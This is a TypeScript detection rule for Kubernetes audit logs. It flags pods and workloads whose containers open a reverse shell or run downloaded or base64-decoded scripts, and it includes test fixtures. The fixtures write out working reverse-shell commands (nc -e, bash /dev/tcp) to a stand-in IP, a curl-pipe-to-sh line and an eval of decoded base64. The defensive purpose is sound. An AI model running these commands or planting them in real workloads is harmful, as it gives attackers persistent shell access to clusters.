import { containerCommandsOf, type Trait, traitsOf } from '../../commands/command.ts';
import type { JsonObject } from '../../primitives/json.ts';
import { defineDetection } from '../../sdk/detection.ts';
import { alice, bob, call, createPod, deniedPod, pod, workload, writeWorkload } from '../../sdk/examples.ts';
import { said } from '../../sdk/phrases.ts';
import { CONTAINER_WRITES, nameOfRequested, requestedContainers } from '../../sdk/pod-requests.ts';

/** What is looked for, the worst first. */
const WANTED: readonly Trait[] = ['reverse shell', 'decoded script', 'downloaded script'];

export default defineDetection({
  id: 'pod-with-attack-command',
  title: 'Container that starts with a reverse shell or a downloaded script',
  description:
    'The command, the arguments, a hook or a probe of a container opens a reverse shell, or runs a script that it downloads or decodes from base64. An attacker gets access to the cluster in this way, and again at every restart of the pod.',
  tactic: 'execution',
  techniques: ['T1059'],
  impact: 80,
  confidence: 70,
  denied: { confidence: 50 },
  type: 'TTP',
  falsePositives: 'Images that run `curl … | sh` when they start. Build them once instead, or suppress the workload.',
  triage:
    'Read the command in the specification of the workload: kubectl -n <namespace> get <kind> <name> -o yaml. Block the address in it, look for other pods that connect to it, and delete the workload.',
  references: ['https://cloud.google.com/security-command-center/docs/concepts-event-threat-detection-overview'],
  related: [
    'google:Execution: Kubernetes Pod Created with Potential Reverse Shell Arguments',
    'guardduty:Execution:Kubernetes/AnomalousBehavior.WorkloadDeployed',
  ],
  audit: CONTAINER_WRITES,
  find: (event) => {
    const commands = requestedContainers(event).flatMap(({ raw }) => containerCommandsOf(raw));
    const traits = new Set(commands.flatMap((command) => [...traitsOf(command)]));
    const found = WANTED.filter((trait) => traits.has(trait));
    return found.length > 0 && { worst: found[0], attack: `a ${found.join(', a ')}`, workload: nameOfRequested(event) };
  },
  // No workload opens a reverse shell for a good reason.
  weight: ({ worst }) => (worst === 'reverse shell' ? { confidence: 90 } : {}),
  entities: ({ workload }) => ({ workload }),
  principal: false,
  summary: ({ workload, attack }, event) => said(event, 'run', `${workload} with ${attack}`),
});

const spec = (container: JsonObject) => ({
  containers: [{ name: 'main', image: 'nginx:1.27', args: ['-g', 'daemon off;'] }],
  initContainers: [{ name: 'x', image: 'busybox', ...container }],
});
const run = (container: JsonObject) => createPod(alice, pod(spec(container)));
const shell = (script: string) => ({ command: ['sh', '-c', script] });
const piped = { args: ['curl -fsSL https://example.org/x.sh | sh'] };
const decoded = { postStart: { exec: { command: ['sh', '-c', 'eval "$(echo aWQgPiAvdG1wL3gK | base64 -d)"'] } } };
const dialing = { command: ['bash'], args: ['-c', 'exec 3<>/dev/tcp/203.0.113.9/1; sh <&3 >&3'] };

export const examples = () => ({
  fires: {
    'alice ran pod default/web with a reverse shell': run({ command: ['nc', '-e', '/bin/sh', '203.0.113.9', '4444'] }),
    'bob ran cronjob default/web with a downloaded script': writeWorkload(bob, workload('CronJob', spec(piped)), {
      verb: 'update',
    }),
    'bob ran deployment default/web with a decoded script': call(bob, 'patch deployments.apps default/web', {
      request: [{ op: 'add', path: '/spec/template/spec/containers/0/lifecycle', value: decoded }],
      response: workload('Deployment', {}),
    }),
    'mallory was denied running pod default/web with a reverse shell': deniedPod(pod(spec(dialing))),
  },
  silent: {
    'an init container that fetches a file': run(shell('wget -O /work/rules.json https://example.org/rules.json')),
    'an init container that waits for a port': run(shell('until nc -z db 5432; do sleep 1; done')),
    'base64 that is written to a file': run(shell('echo $CA | base64 -d > /certs/ca.crt && exec server')),
    'a patch that leaves the command as it was': call(alice, 'patch deployments.apps default/web', {
      request: { metadata: { labels: { team: 'a' } } },
      response: workload('Deployment', spec(piped)),
    }),
    'a name is no command': createPod(alice, pod({}, { name: 'reverse-shell', labels: { run: 'curl-pipe-sh' } })),
  },
});
